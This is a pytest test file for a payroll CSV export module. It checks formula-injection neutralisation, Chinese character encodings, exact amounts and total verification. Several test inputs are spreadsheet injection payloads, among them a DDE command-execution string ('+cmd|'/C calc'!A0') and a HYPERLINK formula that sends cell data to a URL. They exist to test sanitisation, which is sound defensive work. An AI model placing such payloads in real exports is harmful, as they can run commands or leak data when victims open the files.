"""Cells that a spreadsheet would compute, characters that an encoding lacks, and bytes read back."""

from __future__ import annotations

import csv
from collections.abc import Callable
from dataclasses import replace
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest

from grading.kernel.errors import InexactAmount
from grading.kernel.period import Month
from payroll.exports.csv_text import Record, csv_bytes, require_holds, safe_text, table_bytes
from payroll.exports.errors import CharacterNotInEncoding, ExportDoesNotAddUp, UnknownEncoding
from payroll.exports.files import render_exports, write_exports
from payroll.exports.layouts import BANK_GENERIC, Fill
from payroll.exports.options import ExportOptions
from payroll.exports.person import ExportPerson

Maker = Callable[..., ExportPerson]
OCTOBER = Month(2026, 10)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x?"&A2)',
        "+cmd|'/C calc'!A0",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "  =1+1",
        "\u3000@SUM(A1)",
    ],
)
def test_what_a_spreadsheet_would_compute_becomes_text(simple: Maker, text: str) -> None:
    assert safe_text(text) == f"'{text}"
    person = simple(name=text, bank_name=text)
    files = render_exports(
        [person], company="demo", month=OCTOBER, pay_date=None, options=ExportOptions(encoding="utf-8")
    ).files
    for name in ("bank_generic.csv", "tax_wages.csv"):
        for row in csv.reader(StringIO(files[name].decode(), newline="")):
            assert not any(cell.strip()[:1] in tuple("=+-@＝＋－＠") for cell in row if cell.strip())


@pytest.mark.parametrize("text", ["王小明", "A-1", "a=b", "", "'quoted'", "李 雷", "*姓名", "13800000000"])
def test_other_text_is_left_alone(text: str) -> None:
    assert safe_text(text) == text


def test_a_hostile_department_is_text_in_the_journal(simple: Maker) -> None:
    person = replace(simple(), department='=cmd,"x"')
    data = render_exports(
        [person], company="demo", month=OCTOBER, pay_date=None, options=ExportOptions(encoding="utf-8")
    ).files
    row = '销售费用—职工薪酬,"\'=cmd,""x""",base_pay,100.00,\r\n'
    assert row in data["accounting.csv"].decode()


def test_a_negative_amount_is_a_number_and_stays_one() -> None:
    record = Record("A1", {Fill.SERIAL: 1, Fill.AMOUNT: Decimal("-12.5")})
    assert csv_bytes(BANK_GENERIC, [record], "utf-8").decode().splitlines()[1] == "1,,,,-12.50,"


def test_an_amount_finer_than_a_fen_is_never_rounded_here() -> None:
    with pytest.raises(InexactAmount):
        csv_bytes(BANK_GENERIC, [Record("A1", {Fill.AMOUNT: Decimal("0.005")})], "utf-8")


def test_gb18030_holds_a_rare_character(simple: Maker) -> None:
    data = render_exports(
        [simple(name="𠮷田")], company="demo", month=OCTOBER, pay_date=None, options=ExportOptions(encoding="gb18030")
    )
    row = data.files["bank_generic.csv"].split(b"\r\n")[1]
    assert row.startswith(b"1,\x95\x34\xb2\x35\xcc\xef,6222000000000000001,")


def test_gbk_does_not_and_says_whose_it_is(simple: Maker, tmp_path: Path) -> None:
    folder = tmp_path / "exports"
    people = [simple("A1"), simple("A2", name="𠮷田")]
    with pytest.raises(CharacterNotInEncoding) as found:
        write_exports(
            folder, people, company="demo", month=OCTOBER, pay_date=None, options=ExportOptions(encoding="gbk")
        )
    assert found.value.code == "payroll.character_not_in_encoding"
    assert found.value.values == {
        "who": "A2",
        "encoding": "gbk",
        "character": "U+20BB7",
        "column": "户名",
        "file": "bank_generic.csv",
    }
    assert not folder.exists()


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_half_a_character_is_in_no_encoding(simple: Maker, encoding: str) -> None:
    with pytest.raises(CharacterNotInEncoding, match=r"A1: .* U\+D842"):
        render_exports(
            [simple(name="\ud842")],
            company="demo",
            month=OCTOBER,
            pay_date=None,
            options=ExportOptions(encoding=encoding),
        )


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "", "UTF-8-SIG"])
def test_other_encodings_are_refused(encoding: str) -> None:
    with pytest.raises(UnknownEncoding, match="utf-8-sig, utf-8, gb18030, gbk"):
        render_exports([], company="demo", month=OCTOBER, pay_date=None, options=ExportOptions(encoding=encoding))


GOOD = "序号,户名,账号,开户行,金额,备注\r\n1,王,6222000000,银行,10.00,\r\n2,李,6222000001,银行,5.50,\r\n".encode()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        pytest.param(GOOD[: GOOD.index(b"2,")], "number of rows .* should be 2 but is 1", id="a row is lost"),
        pytest.param(GOOD + b"3,,,,0.00,\r\n", "number of rows .* should be 2 but is 3", id="a row too many"),
        pytest.param(GOOD.replace(b"5.50", b"5.51"), "金额 .* should be 15.50 but is 15.51", id="a fen too much"),
    ],
)
def test_bytes_that_do_not_hold_the_payslips_are_refused(data: bytes, message: str) -> None:
    sums = {Fill.AMOUNT: Decimal("15.50")}
    require_holds(BANK_GENERIC, GOOD, "utf-8", rows=2, sums=sums)
    with pytest.raises(ExportDoesNotAddUp, match=message):
        require_holds(BANK_GENERIC, data, "utf-8", rows=2, sums=sums)


def test_a_table_for_people_keeps_numbers_and_neutralises_text() -> None:
    rows = [["=1+1", Decimal("-12.50")], ["王小明", Decimal("0.00")]]
    data = table_bytes(["@name", "Amount"], rows)
    assert data.decode("utf-8-sig") == "'@name,Amount\r\n'=1+1,-12.50\r\n王小明,0.00\r\n"
    assert data.startswith(b"\xef\xbb\xbf")
